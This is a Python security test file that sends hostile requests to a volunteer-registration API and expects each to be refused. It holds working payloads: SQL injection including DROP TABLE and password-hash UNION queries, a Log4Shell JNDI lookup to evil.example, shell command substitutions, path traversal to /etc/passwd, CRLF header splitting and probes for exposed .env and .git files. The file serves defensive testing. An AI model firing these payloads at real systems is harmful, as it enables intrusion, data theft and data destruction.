"""The OWASP API top ten, items 4 and 8, and injection: too much, misplaced, or in disguise."""

import gzip
import json

from tests.hostile.attack import DAY, UNKNOWN, XLSX, Attack, get, post, sheet

JSON = "application/json"
DEEP = b"[" * 100_000

RESOURCES = [
    post("county", "/v1/service-records", b" " * 1_100_000, 413),
    post("nobody", "/v1/registrations", b'"' + b"x" * 5_000_000, 413),
    post("county", "/v1/imports?filename=a.xlsx", b"x" * 21_000_000, 413, Content_Type=XLSX),
    post("county", f"/v1/imports?filename={'a' * 256}", b"x", 400, Content_Type=XLSX),
    post("county", f"/v1/imports?filename=a&reason={'a' * 513}", b"x", 400, Content_Type=XLSX),
    *(get("county", f"/v1/registrations?limit={limit}", 400)
      for limit in ("0", "-1", "101", "1e9", "9" * 40, "NaN", "")),
    *(get("county", f"/v1/registrations?cursor={cursor}", 400)
      for cursor in ("A" * 129, "A" * 60_000, "AAAA", "%00", "Li4v", "OTk5OTk5OTk5OTk5OTk5OQ")),
    post("county", "/v1/service-records",
         {"station_id": "<here.station>", "entries": [{"served_on": DAY, "minutes": 1}] * 1001},
         400),
    post("county", "/v1/approvals", {"decisions": [
        {"kind": "record", "id": UNKNOWN, "decision": "reject"}] * 1001}, 400),
    post("county", "/v1/recognitions/2025/publications",
         {"exclusions": [{"volunteer_id": UNKNOWN, "reason": "x"}] * 101}, 400),
    post("county", "/v1/induction-sessions/<here.session>/attendance",
         {"attendees": [{"member_no": "1"}] * 1001}, 400),
    post("admin", "/v1/clients", {"name": "x", "scopes": ["records:read"] * 17}, 400),
    *(post("county", path, body, 400, Content_Type=JSON)
      for path in ("/v1/service-records", "/v1/volunteers", "/v1/approvals")
      for body in (DEEP, b'{"entries":' + DEEP, b'{"a":' * 100_000, DEEP + b"]" * 100_000,
                   b"9" * 500_000, b"1e" + b"9" * 1000, b"-" * 1000)),
    get("county", "/v1/stations/<here.station>?" + "&".join(f"a{n}=1" for n in range(5_000)), 200),
    get("county", "/v1/me", 200, Accept_Language="zh;q=1," * 5_000),
    get("county", "/v1/me", 200, Accept="a/b;q=0.1," * 5_000),
    *(post("county", "/v1/stations", {"code": "x", "name": "x" * size, "kind": "station"}, 400)
      for size in (129, 100_000)),
    post("county", "/v1/stations", {"code": "X", "name": "x", "kind": "station"}, 400,
         Idempotency_Key="k" * 256),
    post("county", "/v1/volunteers/search", {"name": "王" * 65}, 400),
]  # fmt: skip

LEFT_LYING = [
    "/.env", "/.git/config", "/.git/HEAD", "/admin", "/console", "/debug", "/actuator/env",
    "/server-status", "/swagger-ui/index.html", "/docs", "/redoc", "/graphql", "/phpmyadmin/",
    "/wp-login.php", "/cgi-bin/test", "/metrics/..;/v1/accounts", "/v1/..;/metrics",
    "/v1/accounts;",
    "/v1/accounts/.json", "/v1/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc/passwd",
    "/%2e%2e/keys.json",
    "/data/keys.json", "/v1//accounts", "//v1/accounts", "/V1/accounts", "/v1/Accounts",
    "/v1/accounts%00", "/v1/accounts%20", "/v1%2faccounts", "/%76%31/accounts%2f",
    "/v1/accounts%0a",
    "/v1\\accounts", "/v1/%c0%ae%c0%ae/metrics", "/%252e%252e/etc/passwd", "/v1/stations/%ff",
    "/schema/../data/keys.json", "/v1/accounts.",
    "/favicon.ico",
]  # fmt: skip
MISCONFIGURATION = [
    *(get("nobody", path, 404) for path in LEFT_LYING),
    *(Attack("nobody", method, "/v1/stations", None, 405)
      for method in ("TRACE", "TRACK", "DEBUG")),
    get("nobody", "/v1/me", 401, Origin="https://evil.example"),
    Attack("nobody", "OPTIONS", "/v1/accounts", None, 204,
           {"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}),
    *(get("nobody", "/v1/accounts", 401, **{name: "127.0.0.1"})
      for name in ("X_Forwarded_For", "X_Real_Ip", "X_Client_Ip", "X_Originating_Ip", "Forwarded",
                   "X_Forwarded_Host", "X_Custom_Ip_Authorization", "True_Client_Ip")),
    *(get("nobody", "/v1/stations/<here.station>", 200, **{name: "/v1/accounts"})
      for name in ("X_Original_Url", "X_Rewrite_Url", "X_Forwarded_Prefix")),
]  # fmt: skip

SQL = ["' OR '1'='1", "'; DROP TABLE volunteer; --", "1) UNION SELECT password_hash FROM staff --",
       "$1", "\\'; SELECT pg_sleep(5) --", "' || (SELECT 1/0) || '"]  # fmt: skip
LIKE = ["%", "%%", "_", "王%", "王_明", "\\", "\\%", "王\\", "%_\\"]
TEMPLATES = ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://evil.example/a}",
             "{0.__class__.__mro__}", "%(password)s", "%s%s%n", "<script>alert(1)</script>",
             "`id`", "$(id)", "| id", "../../../etc/passwd"]  # fmt: skip
DISGUISES = ["王\u200b小明", "\u202e明小王", "王\u0301小明", "王小明\ufeff", "ＯＲ", "﹪", "\u2028",
             "\U0001f600" * 10, "王\u00ad小明"]  # fmt: skip
SPLIT = [b"a\r\nSet-Cookie: x=1", b"a\nX: y", b"a\r\n\r\n<script>", b"a\x00b", b"\xff\xfe"]


def doubled(first, second):
    """A body that names its station twice: whoever looks only at the first one lets it pass."""
    entry = json.dumps(sheet(first)["entries"])
    return (f'{{"station_id":"<{first}.station>","entries":{entry},'
            f'"station_id":"<{second}.station>"}}').encode()  # fmt: skip


PLAIN = json.dumps({"name": "王"}).encode()
INJECTION = [
    *(post("county", "/v1/volunteers/search", {"name": text}, "empty")
      for text in [*SQL, *LIKE, *TEMPLATES, *DISGUISES]),
    *(post("county", "/v1/volunteers/search", {"member_no": text}, "empty")
      for text in [*SQL, "*", "1 OR 1=1"]),
    *(post("county", "/v1/volunteers/search", {"document_number": text}, "empty")
      for text in [*SQL, "*"]),
    *(post("county", "/v1/volunteers/search", {"name": {op: ""}}, 400)
      for op in ("$ne", "$gt", "$regex", "$where")),
    *(get("county", f"/v1/service-records?state={text}", 400)
      for text in ("counted'--", "waiting;DROP", "%00", "*", "counted,waiting")),
    *(get("county", f"/v1/registrations?station_id={text}", 400)
      for text in ("'", "1;", "%27%20OR")),
    *(get("nobody", f"/v1/stations/{text}", 404) for text in ("1'--", "1%20OR%201=1", "*", "$ne")),
    # Lines of the answer's head or of the log that somebody else writes.
    *(get("nobody", "/v1/stations/<here.station>", 200, X_Request_Id=text) for text in SPLIT),
    *(get("county", "/v1/me", 200, Accept_Language=text) for text in SPLIT),
    *(get("county", "/v1/me", 200, traceparent=text) for text in SPLIT),
    *(post("county", "/v1/stations", {"code": "X", "name": "x", "kind": "station"}, 400,
           Idempotency_Key=text) for text in SPLIT),
    *(get("nobody", f"/v1/{text}", 404)
      for text in ("%0d%0aSet-Cookie:x=1", "%0aerror%20admin%20signed%20in", "%1b%5b31m", "{{7*7}}",
                   "${jndi:ldap:x}", "%7B0.__class__%7D")),
    # One body to a filter in front, another one to us.
    post("social_worker", "/v1/service-records", doubled("here", "there")),
    *(post("county", "/v1/volunteers/search", PLAIN, ends, Content_Type=kind)
      for kind, ends in (("text/plain", 415), ("application/xml", 415), ("text/json", 415),
                         ("application/x-www-form-urlencoded", 415), ("multipart/form-data", 415),
                         ("multipart/form-data; boundary=x", 415), ("application/jsonp", 415),
                         ("application/json-patch+json", 415), ("application/octet-stream", 415),
                         ("text/html, application/json", 415), ("*/*", 415))),
    post("county", "/v1/volunteers/search", gzip.compress(PLAIN), 400, Content_Type=JSON,
         Content_Encoding="gzip"),
    *(post("county", "/v1/volunteers/search", body, 400, Content_Type=JSON)
      for body in (PLAIN.decode().encode("utf-16"), b"\xef\xbb\xbf" + PLAIN, PLAIN + b"{}",
                   PLAIN + b"\0", b"\x00", b"{'name':'x'}", b'{"name":"x",}', b"{name:1}",
                   b"//\n{}",
                   b'{"name":"\xc0\xae"}', b'{"name":"\\ud800"}', b'{"name":"\\u0000"}', b"NaN",
                   b'{"name":NaN}', b'{"name":Infinity}', b'{"name":0x1}', b'{"name":01}',
                   b"callback({})", b"<xml/>", b"name=x", b'{"name":\n"x', b'["name","x"]')),
    *(post("social_worker", "/v1/service-records", sheet(**line), ends)
      for line, ends in (({"minutes": "60"}, 400), ({"minutes": 60.5}, 400),
                         ({"minutes": True}, 400),
                         ({"minutes": [60]}, 400), ({"minutes": 2**63}, "refused"),
                         ({"minutes": -(2**64)}, "refused"), ({"minutes": 1e308}, 400),
                         ({"served_on": "２０２６-11-19"}, 400), ({"served_on": 20261119}, 400),
                         ({"minutes": None, "hours": "١"}, "refused"),
                         ({"minutes": None, "hours": "1e5"}, "refused"),
                         ({"minutes": None, "hours": "0x10"}, "refused"))),
    *(post("county", f"/v1/imports?filename={name}", b"PK\x03\x04", ends, Content_Type=XLSX)
      for name, ends in (("../../etc/cron.d/x", 422), ("%00", 400), ("..%2f..%2fx.xlsx", 422),
                         ("%3Cscript%3E", 422), ("=cmd()", 422))),
]  # fmt: skip
